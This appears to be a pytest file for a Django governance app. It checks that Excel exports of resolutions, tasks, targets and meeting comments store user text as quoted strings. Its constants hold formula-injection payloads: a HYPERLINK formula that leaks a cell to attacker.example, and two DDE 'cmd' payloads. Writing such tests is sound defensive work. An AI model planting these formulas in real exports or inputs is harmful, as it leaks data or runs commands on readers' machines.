"""Text people typed is exported as text: never as a formula a spreadsheet would run.

Each export is downloaded through its page, reopened with openpyxl, and the hostile
cell must come back as a string with the same characters (the quote prefix keeps it
text when a reader edits the cell too); numbers stay numbers.
"""

import datetime as dt
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from nghiquyet.core.xlsx import append_row
from nghiquyet.documents.models import Document, DocumentKind
from nghiquyet.meetings import services as meetings
from nghiquyet.targets import services as targets
from nghiquyet.tasks import services as tasks

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://attacker.example/?leak="&B3,"Xem chi tiết")'
HOSTILE = [LEAK, "+84-912-345-678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def cells_of(content: bytes):
    sheet = load_workbook(BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text(content: bytes, text: str) -> None:
    found = [cell for cell in cells_of(content) if cell.value == text]
    assert found, f"{text!r} is missing from the export"
    for cell in found:
        assert cell.data_type == "s"
        assert cell.quotePrefix


@pytest.fixture
def resolution(dongthap):
    return Document.objects.create(
        kind=DocumentKind.NGHI_QUYET,
        symbol="12-NQ/TU",
        number="12",
        issuer=dongthap.bodies["tinh_uy"],
        province=dongthap.province,
        title=LEAK,
        status=Document.Status.ADOPTED,
    )


@pytest.mark.parametrize("text", [*HOSTILE, "\tTổng", "\r=1+1"])
def test_every_formula_start_is_written_as_quoted_text(text):
    book = Workbook()
    append_row(book.active, ["Chỉ tiêu", text, 94.95, dt.date(2024, 6, 30)])
    buffer = BytesIO()
    book.save(buffer)
    row = next(load_workbook(BytesIO(buffer.getvalue())).active.iter_rows())
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (text, "s", True)
    assert (row[0].value, row[0].quotePrefix) == ("Chỉ tiêu", False)
    assert row[2].value == 94.95 and row[2].data_type == "n"
    assert row[3].value == dt.datetime(2024, 6, 30)


def test_control_characters_do_not_break_an_export():
    book = Workbook()
    append_row(book.active, ["Tăng thu\x01 ngân sách\x0b"])
    buffer = BytesIO()
    book.save(buffer)
    assert load_workbook(BytesIO(buffer.getvalue())).active["A1"].value == "Tăng thu ngân sách"


def test_the_targets_export_keeps_indicator_names_and_units_as_text(client_for, office, resolution):
    indicator = targets.indicator_create(
        user=office, name=HOSTILE[3], unit=HOSTILE[1], province=resolution.province
    )
    target = targets.target_create(
        user=office,
        document=resolution,
        indicator=indicator,
        comparator=">=",
        value="8.5",
        period="2024",
    )
    actual = targets.actual_create(user=office, target=target, period="2024", value="8.7")
    targets.actual_approve(user=office, actual=actual)
    response = client_for(office).get(f"/targets/documents/{resolution.pk}/excel/")
    assert response.status_code == 200
    for text in (LEAK, HOSTILE[1], HOSTILE[3]):
        assert_text(response.content, text)
    figure = [cell for cell in cells_of(response.content) if cell.value == 8.7]
    assert figure and figure[0].data_type == "n"


def test_the_task_export_keeps_titles_and_outputs_as_text(client_for, dongthap, office, resolution):
    tasks.task_create(
        user=office,
        document=resolution,
        title=HOSTILE[2],
        lead=dongthap.bodies["so_tai_chinh"],
        start_on=dt.date(2024, 1, 10),
        deadline=dt.date(2024, 12, 31),
        expected_output=LEAK,
    )
    response = client_for(office).get("/tasks/export.xlsx?on=2024-07-05")
    assert response.status_code == 200
    assert_text(response.content, HOSTILE[2])
    assert_text(response.content, LEAK)


def test_the_document_register_keeps_titles_as_text(client_for, office, resolution):
    response = client_for(office).get("/documents/export.xlsx")
    assert response.status_code == 200
    assert_text(response.content, LEAK)


def test_the_comment_synthesis_keeps_a_delegates_comment_as_text(
    client_for, dongthap, office, leader
):
    meeting = meetings.meeting_create(
        user=office,
        body=dongthap.bodies["bch"],
        term=dongthap.term,
        session=17,
        session_override_reason="Các hội nghị lần thứ 1 đến 16 chưa nhập vào hệ thống",
        starts_on=dt.date(2024, 7, 11),
        duration_days=1,
        venue="hội trường Sen Hồng",
        members_count=50,
    )
    meetings.participant_invite(
        user=office, meeting=meeting, position="Thường trực Tỉnh ủy", delegate=leader
    )
    item = meetings.agenda_item_add(
        user=office,
        meeting=meeting,
        title="Tờ trình về dự thảo Chương trình hành động",
        presenter=dongthap.bodies["btv"],
    )
    draft = meetings.draft_create(
        user=office,
        agenda_item=item,
        kind=DocumentKind.CHUONG_TRINH,
        title="Chương trình hành động thực hiện Nghị quyết số 45",
        text="I. Mục tiêu\nPhát triển đội ngũ trí thức.",
    )
    meetings.comment_add(user=leader, draft=draft, text=LEAK, section=HOSTILE[3])
    response = client_for(office).get(f"/meetings/drafts/{draft.pk}/synthesis.xlsx")
    assert response.status_code == 200
    assert_text(response.content, LEAK)
    assert_text(response.content, HOSTILE[3])
